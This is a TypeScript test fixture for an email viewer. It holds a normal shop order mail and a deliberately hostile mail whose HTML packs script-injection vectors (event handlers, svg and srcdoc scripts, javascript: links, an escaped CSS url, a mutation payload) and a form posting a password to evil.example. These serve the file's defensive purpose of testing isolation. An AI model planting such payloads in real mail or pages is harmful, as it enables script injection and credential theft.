import type { MailSummary, ParsedMail } from '../../shared/model/isolation.ts';

const minute = 60_000;

/** A mail as shops send it: a table, styles of every kind, a picture that counts who opens it. */
const orderHtml = `<!doctype html><html><head><style>
@import url("https://fonts.example/inter.css");
@font-face { font-family: Shop; src: url(https://fonts.example/shop.woff2); }
body { margin: 0; background: #f3f1ee; font-family: Shop, Arial, sans-serif; }
.card { background: #ffffff url('https://cdn.shop.example/paper.png'); border-radius: 8px; padding: 24px; }
h1 { color: #14532d; font-size: 22px; }
@media (max-width: 420px) { .card { padding: 12px; } }
</style></head><body>
<table width="100%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center" style="padding: 24px">
<table width="520" class="card" style="max-width: 520px; text-align: left"><tr><td>
<h1>Thank you, Lena</h1>
<p style="color: #374151; line-height: 1.5">Your order <strong>1042</strong> is on its way. It should be with you by Thursday.</p>
<p><a href="https://shop.example/orders/1042?token=5f1c" style="display: inline-block; background: #14532d; color: #ffffff; padding: 10px 16px; border-radius: 6px; text-decoration: none">Follow the parcel</a></p>
<p style="color: #6b7280; font-size: 12px">You get this mail as you have ordered. <a href="https://shop.example/unsubscribe">Unsubscribe</a> or <a href="mailto:help@shop.example">write to us</a>.</p>
</td></tr></table></td></tr></table>
<img src="https://tracker.example/open.gif?m=1042" width="1" height="1" alt="">
</body></html>`;

/** A mail that means harm: whatever could run, load, post or lead away. */
const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/meta"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><script>parent.harmed = 'script'</script>
<style>p { background: url(//evil.example/css.png) } @import 'https://evil.example/b.css'; i { background: u\\72l(https://evil.example/escaped.png) }</style></head>
<body onload="parent.harmed = 'onload'" background="https://evil.example/body.png">
<p style="color: red; background-image: url('https://evil.example/inline.png')">Your account is locked.</p>
<img src="https://evil.example/1.png" onerror="parent.harmed = 'onerror'" alt="logo" srcset="https://evil.example/2.png 2x">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="a dot">
<svg><script>parent.harmed = 'svg'</script><image href="https://evil.example/svg.png"/><a xlink:href="javascript:parent.harmed='xlink'"><text>x</text></a></svg>
<iframe srcdoc="<script>top.harmed = 'srcdoc'</script>"></iframe><object data="https://evil.example/o.swf"></object>
<form action="https://evil.example/post"><input name="password"><button>Sign in</button></form>
<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>
<a href="javascript:parent.harmed = 'link'">Unlock</a> <a href="https://evil.example/unlock" target="_top">Or here</a>
<math><mtext></p><style><img src=x onerror="parent.harmed = 'mutation'"></style></mtext></math>
</body></html>`;

interface FakeMail {
  readonly summary: Omit<MailSummary, 'id' | 'at'>;
  /** Minutes before now. */
  readonly age: number;
  readonly text?: string;
  readonly html?: string;
  readonly attachments?: ParsedMail['attachments'];
}

const written: readonly FakeMail[] = [
  {
    age: 2,
    summary: {
      service: 'api',
      from: 'shop@example.com',
      to: ['lena@example.com'],
      subject: 'Your order 1042 is on its way',
      size: 3310,
    },
    text: 'Thank you, Lena.\n\nYour order 1042 is on its way.\nFollow the parcel: https://shop.example/orders/1042?token=5f1c\n',
    html: orderHtml,
    attachments: [
      { name: 'bill-1042.pdf', type: 'application/pdf', size: 18_240 },
      { name: 'terms.txt', type: 'text/plain', size: 2100 },
    ],
  },
  {
    age: 12,
    summary: {
      service: 'api',
      from: 'shop@example.com',
      to: ['omar@example.com', 'accounts@example.com'],
      subject: 'Grüße aus dem Laden',
      size: 48_100,
    },
    text: 'Hallo Omar,\n\ndanke für die Bestellung. Die Rechnung kommt mit der Ware.\n\nDer Laden\n',
  },
  {
    age: 31,
    summary: {
      service: 'worker',
      from: 'security@example.com',
      to: ['lena@example.com'],
      subject: 'Your account is locked',
      size: 2240,
    },
    html: hostileHtml,
  },
  {
    age: 96,
    summary: { service: 'worker', from: '', to: ['root@example.com'], subject: '', size: 310 },
    text: '',
  },
];

const idOf = (now: number, age: number): string => String(now - age * minute);

/** The inbox of a shop; `many` more of one kind behind it. */
export function fakeMails(now: number, many = 0): readonly MailSummary[] {
  const own = written.map(({ age, summary }) => ({ ...summary, id: idOf(now, age), at: now - age * minute }));
  const more = Array.from({ length: many }, (_, index) => ({
    service: index % 3 === 0 ? 'worker' : 'api',
    from: 'shop@example.com',
    to: [`customer-${index}@example.com`],
    subject: `Order ${2000 + index} was received`,
    size: 1800 + ((index * 37) % 900),
    id: idOf(now, 120 + index),
    at: now - (120 + index) * minute,
  }));
  return [...own, ...more];
}

/** One of them, read. */
export function fakeMail(now: number, summary: MailSummary): ParsedMail {
  const found = written.find(({ age }) => idOf(now, age) === summary.id);
  const { text, html, attachments = [] } = found ?? { text: `${summary.subject}.\n` };
  const headers = [
    { name: 'From', value: `Shop <${summary.from}>` },
    { name: 'To', value: summary.to.join(', ') },
    { name: 'Subject', value: summary.subject },
    { name: 'Message-ID', value: `<${summary.id}@shop.example>` },
    { name: 'MIME-Version', value: '1.0' },
  ];
  const head = headers.map(({ name, value }) => `${name}: ${value}\r\n`).join('');
  return {
    summary,
    headers,
    ...(text === undefined ? {} : { text }),
    ...(html === undefined ? {} : { html }),
    attachments,
    source: `${head}\r\n${(html ?? text ?? '').replaceAll('\n', '\r\n')}\r\n`,
    cut: false,
  };
}
